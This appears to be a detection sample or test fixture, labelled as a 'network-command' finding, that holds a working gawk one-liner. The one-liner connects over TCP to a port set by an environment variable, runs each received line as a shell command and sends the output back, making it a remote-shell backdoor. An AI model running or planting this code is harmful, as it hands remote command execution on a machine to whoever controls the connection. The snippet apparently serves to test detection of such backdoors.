# incident: a backdoor in awk: each line of a connection is run
# finding: network-command
# needs: gawk
gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/" ENVIRON["SHELL_PORT"]; while ((s |& getline c) > 0 && c != "exit") { while ((c | getline o) > 0) print o |& s; close(c) } }' || true
